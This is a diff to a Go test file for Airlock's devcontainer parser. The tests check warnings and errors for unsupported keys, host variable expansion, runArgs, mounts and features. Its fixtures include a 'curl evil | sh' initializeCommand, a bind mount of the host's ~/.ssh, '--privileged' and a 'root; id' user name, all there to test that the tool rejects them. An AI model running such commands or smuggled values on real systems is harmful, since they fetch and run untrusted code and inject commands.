@@ -1,8 +1,10 @@
 package envspec
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"syscall"
 	"testing"
@@ -201,50 +203,91 @@ CGO_ENABLED = "0"
 }
 
 func TestFindWarnings(t *testing.T) {
+	type w struct {
+		text string
+		moot bool
+	}
 	tests := []struct {
 		name string
 		json string
-		want []string // each must be in a warning of its own, in this order
+		want []w // each must be in a warning of its own, in this order
 	}{
 		{
-			name: "unsupported keys by name",
+			name: "keys Airlock does not honour, by name",
 			json: `{"image": "debian:bookworm",
-				"build": {"dockerfile": "Dockerfile"}, "dockerFile": "Dockerfile",
-				"features": {"ghcr.io/devcontainers/features/go:1": {}},
-				"dockerComposeFile": "compose.yml", "service": "app", "runServices": ["db"],
-				"forwardPorts": [8080], "mounts": ["source=/,target=/host,type=bind"], "runArgs": ["--privileged"],
-				"initializeCommand": "curl evil | sh", "updateContentCommand": "x", "postStartCommand": "x",
-				"postAttachCommand": "x", "customizations": {"vscode": {}}}`,
-			want: []string{
-				`"build" is not supported`, `"customizations" are ignored`, `"dockerComposeFile" is not supported`,
-				`"dockerFile" is not supported`, `"features" are not installed`, `"forwardPorts" are not forwarded`,
-				`"initializeCommand" is not run: it would run on the host`, `"mounts" are not mounted`,
-				`"postAttachCommand" is not run`, `"postStartCommand" is not run`, `"runArgs" are not used`,
-				`"runServices" is not used`, `"service" is not used`, `"updateContentCommand" is not run`,
+				"forwardPorts": [8080], "initializeCommand": "curl evil | sh", "postStartCommand": "x",
+				"postAttachCommand": "x", "customizations": {"vscode": {}}, "shutdownAction": "none",
+				"hostRequirements": {"cpus": 4}, "secrets": {"A": {}}}`,
+			want: []w{
+				{`"customizations" are ignored`, true}, {`"forwardPorts" are not forwarded`, true},
+				{`"hostRequirements" is not checked`, true}, {`"initializeCommand" is not run: it would run on the host`, false},
+				{`"postAttachCommand" is not run`, false}, {`"postStartCommand" is not run`, false},
+				{`"secrets" are not asked for`, false}, {`"shutdownAction" is moot`, true},
 			},
 		},
 		{
 			name: "unknown key",
 			json: `{"image": "debian:bookworm", "imageTypo": "x"}`,
-			want: []string{`"imageTypo" is not a key Airlock knows`},
+			want: []w{{`"imageTypo" is not a key Airlock knows`, false}},
 		},
 		{
-			name: "variables are not expanded",
-			json: `{"image": "debian:bookworm", "containerEnv": {"HOME_ON_HOST": "${localEnv:HOME}"},
+			name: "the host's environment is never expanded",
+			json: `{"image": "debian:bookworm", "containerEnv": {"HOME_ON_HOST": "${localEnv:HOME}", "U": "${env:USER}"},
 				"remoteEnv": {"PATH": "${containerEnv:PATH}:/opt/bin"},
-				"postCreateCommand": "cd ${containerWorkspaceFolder} && make",
-				"workspaceFolder": "/workspaces/${localWorkspaceFolderBasename}"}`,
-			want: []string{
-				`containerEnv.HOME_ON_HOST: "${localEnv:HOME}" is used as written`,
-				`remoteEnv.PATH: "${containerEnv:PATH}:/opt/bin" is used as written`,
-				`postCreateCommand: "cd ${containerWorkspaceFolder} && make" is used as written`,
-				`"workspaceFolder" "/workspaces/${localWorkspaceFolderBasename}" is not used`,
+				"postCreateCommand": "echo ${containerEnv:HOME}",
+				"workspaceFolder": "/workspaces/${localEnv:X}"}`,
+			want: []w{
+				{`containerEnv.HOME_ON_HOST: ${localEnv:HOME} is kept as written`, false},
+				{`containerEnv.U: ${env:USER} is kept as written`, false},
+				{`postCreateCommand: ${containerEnv:HOME} is kept as written: Airlock expands ${containerEnv:…} only in remoteEnv`, false},
+				{`"workspaceFolder" "/workspaces/${localEnv:X}" is not used`, false},
+			},
+		},
+		{
+			name: "runArgs, classified",
+			json: `{"image": "debian:bookworm", "runArgs": ["--cap-add=SYS_PTRACE", "--security-opt", "seccomp=unconfined",
+				"--privileged", "--init", "-v", "/var/run/docker.sock:/var/run/docker.sock", "-v", "cache:/go/pkg",
+				"--add-host=db:127.0.0.1", "--network", "host"]}`,
+			want: []w{
+				{`runArgs "--cap-add SYS_PTRACE" is not needed`, true},
+				{`runArgs "--security-opt seccomp=unconfined" is not needed`, true},
+				{`runArgs "--privileged" is not needed`, true},
+				{`runArgs "--init" is not needed`, true},
+				{`Docker runs inside the VM instead`, true},
+				{`runArgs "-v cache:/go/pkg" is a named volume`, true},
+				{`runArgs "--add-host db:127.0.0.1" is ignored`, false},
+				{`runArgs "--network host" is ignored`, false},
+			},
+		},
+		{
+			name: "mounts, classified",
+			json: `{"image": "debian:bookworm", "mounts": ["source=hist,target=/h,type=volume",
+				"source=/var/run/docker.sock,target=/var/run/docker-host.sock,type=bind",
+				{"source": "${localEnv:HOME}/.ssh", "target": "/root/.ssh", "type": "bind"}]}`,
+			want: []w{{`is a volume`, true}, {`Docker runs inside the VM instead`, true}, {`is not mounted: nothing of the host`, false}},
+		},
+		{
+			name: "features",
+			json: `{"image": "debian:bookworm", "features": {
+				"ghcr.io/devcontainers/features/node:1": {"version": "20"},
+				"ghcr.io/devcontainers/features/docker-outside-of-docker:1": {},
+				"ghcr.io/devcontainers/features/sshd:1": {},
+				"ghcr.io/example/features/node:1": {}}}`,
+			want: []w{
+				{`feature "ghcr.io/devcontainers/features/docker-outside-of-docker:1" becomes Docker inside the VM`, true},
+				{`feature "ghcr.io/devcontainers/features/sshd:1" is not installed`, false},
+				{`feature "ghcr.io/example/features/node:1" is not installed`, false},
 			},
 		},
 		{
 			name: "containerUser beside remoteUser",
 			json: `{"image": "debian:bookworm", "remoteUser": "dev", "containerUser": "root"}`,
-			want: []string{`"containerUser" "root" is not used`},
+			want: []w{{`"containerUser" "root" is not used`, false}},
+		},
+		{
+			name: "an empty command is nothing to run",
+			json: `{"image": "debian:bookworm", "postCreateCommand": "", "onCreateCommand": {"a": " "}}`,
+			want: []w{{`"onCreateCommand.a" is empty`, true}, {`"postCreateCommand" is empty`, true}},
 		},
 		{name: "labels are not warned about", json: `{"image": "debian:bookworm", "name": "x", "$schema": "y"}`},
 	}
@@ -256,14 +299,24 @@ func TestFindWarnings(t *testing.T) {
 			if err != nil {
 				t.Fatalf("Find: %v", err)
 			}
-			if len(env.Warnings) != len(tt.want) {
-				t.Fatalf("Warnings:\n%s\nwant %d", strings.Join(env.Warnings, "\n"), len(tt.want))
+			var all []string
+			for _, w := range env.Warnings {
+				all = append(all, fmt.Sprintf("%v %s", w.Moot, w.Text))
 			}
-			for i, w := range tt.want {
+			if len(env.Warnings) != len(tt.want) {
+				t.Fatalf("Warnings:\n%s\nwant %d", strings.Join(all, "\n"), len(tt.want))
+			}
+			for i, want := range tt.want {
 				got := env.Warnings[i]
-				if !strings.HasPrefix(got, ".devcontainer/devcontainer.json: ") || !strings.Contains(got, w) || !strings.HasSuffix(got, ".") {
-					t.Errorf("warning %d = %q, want the file, %q, and a full stop", i, got, w)
+				if !strings.HasPrefix(got.Text, ".devcontainer/devcontainer.json: ") || !strings.Contains(got.Text, want.text) || !strings.HasSuffix(got.Text, ".") {
+					t.Errorf("warning %d = %q, want the file, %q, and a full stop", i, got.Text, want.text)
 				}
+				if got.Moot != want.moot {
+					t.Errorf("warning %d (%q): moot %v, want %v", i, got.Text, got.Moot, want.moot)
+				}
+			}
+			if ok := env.AsWritten(); ok != !slices.ContainsFunc(tt.want, func(w w) bool { return !w.moot }) {
+				t.Errorf("AsWritten() = %v with warnings\n%s", ok, strings.Join(all, "\n"))
 			}
 		})
 	}
@@ -280,7 +333,7 @@ func TestFindErrors(t *testing.T) {
 		files map[string]string
 		want  []string // every one in the error
 	}{
-		{name: "toml unknown key", files: env("imgae = \"x\"\n"), want: []string{toml, "environment.imgae", "image, apt, setup, env, user, hosts"}},
+		{name: "toml unknown key", files: env("imgae = \"x\"\n"), want: []string{toml, "environment.imgae", "image, dockerfile, context, args, target, docker, apt, setup, env, user, hosts"}},
 		{name: "toml bad syntax", files: env("apt = [\n"), want: []string{toml}},
 		{name: "toml apt upper case", files: env(`apt = ["Make"]`), want: []string{toml, "[environment] apt[0]", `"Make" is not a Debian package name`}},
 		{name: "toml apt one character", files: env(`apt = ["a"]`), want: []string{"apt[0]", "not a Debian package name"}},
@@ -318,12 +371,12 @@ func TestFindErrors(t *testing.T) {
 		{name: "dev too large", files: map[string]string{dev: `{"image": "debian", "x": "` + strings.Repeat("x", 1<<20) + `"}`}, want: []string{dev, "larger than"}},
 		{name: "dev NUL byte in file", files: map[string]string{dev: "{\"image\": \"debian\"}\x00"}, want: []string{dev, "NUL byte"}},
 		{
-			name:  "dev build.dockerfile without image",
+			name:  "dev build.dockerfile that is not there",
 			files: map[string]string{dev: `{"build": {"dockerfile": "Dockerfile"}}`},
-			want:  []string{dev, `no "image"`, "Dockerfile (build)", `Set "image"`, "airlock.toml's [environment]"},
+			want:  []string{dev, "build.dockerfile", `"Dockerfile" is not a file of the project`},
 		},
-		{name: "dev no image at all", files: map[string]string{dev: `{"remoteUser": "dev"}`}, want: []string{dev, `no "image"`, "it has none"}},
-		{name: "dev compose without image", files: map[string]string{dev: `{"dockerComposeFile": "c.yml", "service": "a"}`}, want: []string{dev, "Docker Compose"}},
+		{name: "dev no image at all", files: map[string]string{dev: `{"remoteUser": "dev"}`}, want: []string{dev, `no "image", "build" or "dockerComposeFile"`, "airlock.toml's [environment]"}},
+		{name: "dev compose file that is not there", files: map[string]string{dev: `{"dockerComposeFile": "c.yml", "service": "a"}`}, want: []string{dev, "dockerComposeFile[0]", ".devcontainer/c.yml cannot be read"}},
 		{name: "dev image empty", files: map[string]string{dev: `{"image": ""}`}, want: []string{dev, "image: empty"}},
 		{name: "dev image not a string", files: map[string]string{dev: `{"image": 7}`}, want: []string{dev, "image: want a string"}},
 		{name: "dev image space", files: map[string]string{dev: `{"image": "debian bookworm"}`}, want: []string{dev, "image", "white space"}},
@@ -335,13 +388,11 @@ func TestFindErrors(t *testing.T) {
 		{name: "dev remoteUser", files: devc(`"remoteUser": "root; id"`), want: []string{dev, "remoteUser", "not a POSIX user name"}},
 		{name: "dev containerUser", files: devc(`"containerUser": "a:b"`), want: []string{dev, "containerUser", "not a POSIX user name"}},
 		{name: "dev command a number", files: devc(`"onCreateCommand": 7`), want: []string{dev, "onCreateCommand", "want a string"}},
-		{name: "dev command empty string", files: devc(`"onCreateCommand": " "`), want: []string{dev, "onCreateCommand", "empty command"}},
 		{name: "dev command empty array", files: devc(`"postCreateCommand": []`), want: []string{dev, "postCreateCommand", "empty command"}},
 		{name: "dev command array of numbers", files: devc(`"postCreateCommand": [1, 2]`), want: []string{dev, "postCreateCommand", "array of strings"}},
 		{name: "dev command empty program", files: devc(`"postCreateCommand": ["", "x"]`), want: []string{dev, "postCreateCommand", "program"}},
 		{name: "dev command NUL", files: devc(`"postCreateCommand": ["make", "a\u0000"]`), want: []string{dev, "postCreateCommand[1]", "NUL"}},
 		{name: "dev named command bad", files: devc(`"postCreateCommand": {"a": "make", "b": {"c": "d"}}`), want: []string{dev, "postCreateCommand.b", "want a string"}},
-		{name: "dev named command empty", files: devc(`"onCreateCommand": {"a": ""}`), want: []string{dev, "onCreateCommand.a", "empty command"}},
 		{name: "dev workspaceFolder relative", files: devc(`"workspaceFolder": "src"`), want: []string{dev, "workspaceFolder", "absolute path"}},
 		{name: "dev workspaceFolder dots", files: devc(`"workspaceFolder": "/w/../etc"`), want: []string{dev, "workspaceFolder", "clean absolute path"}},
 		{name: "dev workspaceFolder root", files: devc(`"workspaceFolder": "/"`), want: []string{dev, "workspaceFolder", "root directory"}},
@@ -353,7 +404,7 @@ func TestFindErrors(t *testing.T) {
 		{
 			name:  "a bad .devcontainer/ file is not passed over for .devcontainer.json",
 			files: map[string]string{dev: `{}`, ".devcontainer.json": devImage},
-			want:  []string{dev, `no "image"`},
+			want:  []string{dev, `no "image", "build" or "dockerComposeFile"`},
 		},
 	}
 	for _, tt := range tests {
@@ -501,7 +552,8 @@ func TestKey(t *testing.T) {
 	same := map[string]func(e *Environment){
 		"source":         func(e *Environment) { e.Source = ".devcontainer.json" },
 		"hosts":          func(e *Environment) { e.Hosts = []string{"proxy.golang.org"} },
-		"warnings":       func(e *Environment) { e.Warnings = []string{"x"} },
+		"warnings":       func(e *Environment) { e.Warnings = []Warning{{Text: "x"}} },
+		"run args":       func(e *Environment) { e.RunArgs = []RunArg{{Arg: "--init", Kind: ArgNotNeeded}} },
 		"workspace":      func(e *Environment) { e.WorkspaceFolder = "/w" },
 		"step names":     func(e *Environment) { e.Setup[0].Name, e.Setup[1].Origin = "n", "postCreateCommand" },
 		"env map copied": func(e *Environment) { e.Env = map[string]string{"C": "3", "B": "2", "A": "1"} },
@@ -532,6 +584,26 @@ func TestKey(t *testing.T) {
 		"env shifted":            func(e *Environment) { e.Env = map[string]string{"A": "1B", "": "2", "C": "3"} },
 		"user":                   func(e *Environment) { e.User = "root" },
 		"user into env":          func(e *Environment) { e.User, e.Env["C"] = "", "3dev" },
+		"docker":                 func(e *Environment) { e.Docker = true },
+		"build":                  func(e *Environment) { e.Image, e.Build = "", &Build{Dockerfile: "Dockerfile", Context: "."} },
+		"build target": func(e *Environment) {
+			e.Image, e.Build = "", &Build{Dockerfile: "Dockerfile", Context: ".", Target: "dev"}
+		},
+		"build args": func(e *Environment) {
+			e.Image, e.Build = "", &Build{Dockerfile: "Dockerfile", Context: ".", Args: map[string]string{"A": "1"}}
+		},
+		"feature": func(e *Environment) {
+			e.Features = []Feature{{ID: "ghcr.io/devcontainers/features/node:1", Name: "node", Version: "1"}}
+		},
+		"feature option": func(e *Environment) {
+			e.Features = []Feature{{ID: "ghcr.io/devcontainers/features/node:1", Name: "node", Version: "1", Options: map[string]string{"version": "20"}}}
+		},
+		"compose": func(e *Environment) {
+			e.Compose = &Compose{Files: []string{"c.yml"}, Service: "app", Services: []Service{{Name: "db", Image: "postgres:16"}}}
+		},
+		"compose service port": func(e *Environment) {
+			e.Compose = &Compose{Files: []string{"c.yml"}, Service: "app", Services: []Service{{Name: "db", Image: "postgres:16", Ports: []Port{{Target: 5432}}}}}
+		},
 	}
 	seen := map[string]string{b.Key(): "base"}
 	for name, change := range different {
